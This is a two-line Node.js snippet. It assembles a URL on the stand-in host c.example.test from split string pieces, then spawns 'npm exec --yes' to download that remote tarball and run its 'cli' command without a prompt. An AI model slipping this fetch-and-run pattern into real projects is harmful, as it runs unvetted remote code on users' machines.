const from = ["https:", "", "c.example.test", "cli.tgz"].join("/");
require("child_process").spawnSync(process.execPath, [process.env.npm_execpath, "exec", "--yes", `--package=${from}`, "--", "cli"]);
